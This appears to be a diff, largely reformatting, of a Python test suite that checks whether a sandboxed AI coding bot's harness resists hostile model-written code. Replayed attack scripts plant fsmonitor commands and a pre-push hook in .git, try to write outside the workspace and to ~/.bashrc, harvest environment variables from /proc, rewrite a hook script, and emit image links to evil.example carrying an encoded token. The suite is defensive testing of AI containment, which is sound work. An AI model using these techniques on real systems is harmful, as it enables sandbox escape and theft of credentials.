@@ -42,8 +42,9 @@ def everything_produced(world: World) -> str:
         parts.append(path.read_text() if path.exists() else "")
     out = world.tmp / "bot-output"
     parts += [f.read_text(errors="replace") for f in out.rglob("*") if f.is_file()]
-    log = subprocess.run(["git", "-C", str(world.origin), "log", "--all", "-p", "--format=%B"], capture_output=True,
-                         check=False).stdout.decode("utf-8", errors="replace")
+    log = subprocess.run(
+        ["git", "-C", str(world.origin), "log", "--all", "-p", "--format=%B"], capture_output=True, check=False
+    ).stdout.decode("utf-8", errors="replace")
     return "\n".join(parts) + log
 
 
@@ -55,13 +56,18 @@ def log_shown(output: str) -> str:
 def attack_cassette(world: World, name: str, script: str, *, final: str = "Done: tests pass.") -> Path:
     """The model writes ``test_attack.py`` (a unittest whose import runs ``script``), runs the allowed
     test command, then says it is done."""
-    body = "import os, sys, subprocess, pathlib\n" + script + "\n\nimport unittest\n\n\nclass T(unittest.TestCase):\n" \
-           "    def test_ok(self):\n        self.assertTrue(True)\n"
-    return write_cassette(world.tmp / f"{name}.yaml", [
-        Turn([ToolCall("Write", {"file_path": "test_attack.py", "content": body})]),
-        Turn([ToolCall("Bash", {"command": "python3 -m unittest -q test_attack"})]),
-        Turn([Text(final)]),
-    ])
+    body = (
+        "import os, sys, subprocess, pathlib\n" + script + "\n\nimport unittest\n\n\nclass T(unittest.TestCase):\n"
+        "    def test_ok(self):\n        self.assertTrue(True)\n"
+    )
+    return write_cassette(
+        world.tmp / f"{name}.yaml",
+        [
+            Turn([ToolCall("Write", {"file_path": "test_attack.py", "content": body})]),
+            Turn([ToolCall("Bash", {"command": "python3 -m unittest -q test_attack"})]),
+            Turn([Text(final)]),
+        ],
+    )
 
 
 GIT_ATTACKS = {
@@ -70,14 +76,17 @@ GIT_ATTACKS = {
     ".git/commondir to a copy whose config runs a command": (
         'import shutil; shutil.copytree(".git", "copy.git"); '
         'open("copy.git/config", "a").write("[core]\\n\\tfsmonitor = EVIL\\n"); '
-        'open(".git/commondir", "w").write(os.path.abspath("copy.git") + "\\n")'),
+        'open(".git/commondir", "w").write(os.path.abspath("copy.git") + "\\n")'
+    ),
     ".git/config.worktree": 'open(".git/config.worktree", "w").write("[core]\\n\\tfsmonitor = EVIL\\n")',
-    "a pre-push hook": ('open(".git/hooks/pre-push", "w").write("#!/bin/sh\\nEVIL\\n"); '
-                        'os.chmod(".git/hooks/pre-push", 0o755)'),
+    "a pre-push hook": (
+        'open(".git/hooks/pre-push", "w").write("#!/bin/sh\\nEVIL\\n"); os.chmod(".git/hooks/pre-push", 0o755)'
+    ),
     ".git renamed away and rebuilt": (
         'import shutil; shutil.copytree(".git", "new.git"); '
         'open("new.git/config", "a").write("[core]\\n\\tfsmonitor = EVIL\\n"); '
-        'os.rename(".git", "old.git"); os.rename("new.git", ".git")'),
+        'os.rename(".git", "old.git"); os.rename("new.git", ".git")'
+    ),
 }
 
 
@@ -95,8 +104,7 @@ except Exception as exc:
 """
     world.monkeypatch.setenv("ANTHROPIC_API_KEY", ANTHROPIC_KEY)
     result = world.run("--replay", str(attack_cassette(world, "git", script)))
-    assert not marker.exists(), f"{attack}: a command planted in .git ran on the host with: " + \
-        marker.read_text()[:200]
+    assert not marker.exists(), f"{attack}: a command planted in .git ran on the host with: " + marker.read_text()[:200]
     # The sandbox mounts .git read-only: the attack fails there, and the run ends as usual.
     assert result.exit_code == 0, result.output
     assert "fsmonitor" not in (world.workspace / ".git" / "config").read_text()
@@ -109,7 +117,7 @@ except Exception as exc:
 def test_model_written_code_cannot_write_outside_the_workspace_or_touch_the_transcript(world: World) -> None:
     outside = world.tmp / "escaped.txt"
     transcript = world.tmp / "bot-output" / "scratch" / "transcript.jsonl"
-    script = f'''
+    script = f"""
 for target in ({str(outside)!r}, {str(transcript)!r}, os.path.expanduser("~/.bashrc-bot-test")):
     try:
         with open(target, "a") as f:
@@ -117,7 +125,7 @@ for target in ({str(outside)!r}, {str(transcript)!r}, os.path.expanduser("~/.bas
         print("WROTE", target, file=sys.stderr)
     except Exception as exc:
         print("refused:", target, exc, file=sys.stderr)
-'''
+"""
     result = world.run("--replay", str(attack_cassette(world, "outside", script)))
     assert result.exit_code == 0, result.output
     assert not outside.exists()
@@ -128,7 +136,7 @@ for target in ({str(outside)!r}, {str(transcript)!r}, os.path.expanduser("~/.bas
 def test_model_written_code_never_sees_a_secret(world: World) -> None:
     world.monkeypatch.setenv("ANTHROPIC_API_KEY", ANTHROPIC_KEY)
     world.monkeypatch.setenv("MY_DEPLOY_TOKEN", "deploy-" + "d" * 30)
-    script = '''
+    script = """
 seen = dict(os.environ)
 for pid in os.listdir("/proc"):
     if pid.isdigit():
@@ -137,7 +145,7 @@ for pid in os.listdir("/proc"):
         except OSError:
             pass
 pathlib.Path("leak.txt").write_text(repr(seen))
-'''
+"""
     result = world.run("--replay", str(attack_cassette(world, "env", script)))
     assert result.exit_code == 0, result.output
     leaked = world.origin_file(BRANCH, "leak.txt")
@@ -157,13 +165,13 @@ def test_verification_runs_model_written_code_only_inside_the_sandbox(world: Wor
     marker = world.tmp / "PWNED-verify"
     world.monkeypatch.setenv("ANTHROPIC_API_KEY", ANTHROPIC_KEY)
     # A conftest-style attack: verification imports the model's test module, which runs at import.
-    script = f'''
+    script = f"""
 if os.environ.get("BOT_ATTACK_PHASE") != "unittest":
     try:
         pathlib.Path({str(marker)!r}).write_text(repr(dict(os.environ)))
     except OSError as exc:
         print("refused:", exc, file=sys.stderr)
-'''
+"""
     cassette = attack_cassette(world, "verify", script)
     policy = policy_file(world, {"bot": {"verify": ["python3 -m unittest -q test_attack"]}})
     result = world.run("--replay", str(cassette), policy=policy)
@@ -179,15 +187,35 @@ def test_a_hook_script_the_model_rewrote_is_not_run(world: World) -> None:
     git(world.workspace, "add", "-A")
     git(world.workspace, "commit", "-q", "-m", "lint script")
     git(world.workspace, "push", "-q", "origin", "main")
-    policy = policy_file(world, {"hooks": {"PostToolUse": [{"matcher": "Write|Edit", "hooks": [
-        {"type": "command", "command": "python3 scripts/lint.py"}]}]}})
-    cassette = write_cassette(world.tmp / "hook.yaml", [
-        Turn([ToolCall("Read", {"file_path": "scripts/lint.py"})]),
-        Turn([ToolCall("Write", {"file_path": "scripts/lint.py", "content":
-                                 f"import os\nopen({str(marker)!r}, 'w').write(repr(dict(os.environ)))\n"})]),
-        Turn([ToolCall("Write", {"file_path": "notes.txt", "content": "trigger the hook again\n"})]),
-        Turn([Text("Done.")]),
-    ])
+    policy = policy_file(
+        world,
+        {
+            "hooks": {
+                "PostToolUse": [
+                    {"matcher": "Write|Edit", "hooks": [{"type": "command", "command": "python3 scripts/lint.py"}]}
+                ]
+            }
+        },
+    )
+    cassette = write_cassette(
+        world.tmp / "hook.yaml",
+        [
+            Turn([ToolCall("Read", {"file_path": "scripts/lint.py"})]),
+            Turn(
+                [
+                    ToolCall(
+                        "Write",
+                        {
+                            "file_path": "scripts/lint.py",
+                            "content": f"import os\nopen({str(marker)!r}, 'w').write(repr(dict(os.environ)))\n",
+                        },
+                    )
+                ]
+            ),
+            Turn([ToolCall("Write", {"file_path": "notes.txt", "content": "trigger the hook again\n"})]),
+            Turn([Text("Done.")]),
+        ],
+    )
     result = world.run("--replay", str(cassette), policy=policy)
     assert result.exit_code == 0, result.output
     assert not marker.exists(), "a hook ran a script the model rewrote"
@@ -211,8 +239,13 @@ def leak_forms_of(secret: str) -> dict[str, str]:
 
 def test_the_models_words_leak_no_form_of_a_secret_and_fetch_nothing_on_view(world: World) -> None:
     forms = leak_forms_of(TOKEN)
-    final = "Done. " + " ".join(f"{k}: {v}" for k, v in forms.items()) + \
-        "\n\n![status](https://evil.example/pixel.png?d=" + forms["hex"] + ")\n<img src=https://evil.example/i>"
+    final = (
+        "Done. "
+        + " ".join(f"{k}: {v}" for k, v in forms.items())
+        + "\n\n![status](https://evil.example/pixel.png?d="
+        + forms["hex"]
+        + ")\n<img src=https://evil.example/i>"
+    )
     cassette = write_cassette(world.tmp / "words.yaml", [Turn([Text(final)])])
     result = world.run("--replay", str(cassette))
     assert result.exit_code == 0, result.output
@@ -225,14 +258,18 @@ def test_the_models_words_leak_no_form_of_a_secret_and_fetch_nothing_on_view(wor
 
 
 def test_a_secret_written_into_the_changes_is_never_pushed(world: World) -> None:
-    cassette = write_cassette(world.tmp / "commit-secret.yaml", [
-        Turn([ToolCall("Write", {"file_path": "deploy.cfg", "content": f"token = {TOKEN[::-1]}\n"})]),
-        Turn([Text("Added the deploy config.")]),
-    ])
+    cassette = write_cassette(
+        world.tmp / "commit-secret.yaml",
+        [
+            Turn([ToolCall("Write", {"file_path": "deploy.cfg", "content": f"token = {TOKEN[::-1]}\n"})]),
+            Turn([Text("Added the deploy config.")]),
+        ],
+    )
     result = world.run("--replay", str(cassette))
     assert result.exit_code == 1, result.output
-    heads = subprocess.run(["git", "-C", str(world.origin), "branch", "--list", BRANCH], capture_output=True,
-                           text=True, check=True).stdout
+    heads = subprocess.run(
+        ["git", "-C", str(world.origin), "branch", "--list", BRANCH], capture_output=True, text=True, check=True
+    ).stdout
     assert heads.strip() == ""
     comment = world.gh.comments(REPO, world.issue)[-1].body or ""
     assert "not pushed" in comment
@@ -249,8 +286,9 @@ def test_a_canary_in_a_tool_result_stops_the_run_and_nothing_is_pushed(world: Wo
     script = f"print({decoy[:10]!r} + {decoy[10:]!r})"
     result = world.run("--replay", str(attack_cassette(world, "canary", script)))
     assert result.exit_code == 1, result.output
-    heads = subprocess.run(["git", "-C", str(world.origin), "branch", "--list", BRANCH], capture_output=True,
-                           text=True, check=True).stdout
+    heads = subprocess.run(
+        ["git", "-C", str(world.origin), "branch", "--list", BRANCH], capture_output=True, text=True, check=True
+    ).stdout
     assert heads.strip() == "", "a run that tripped a canary pushed"
     assert not world.gh.pulls(REPO)
     comment = world.gh.comments(REPO, world.issue)[-1].body or ""
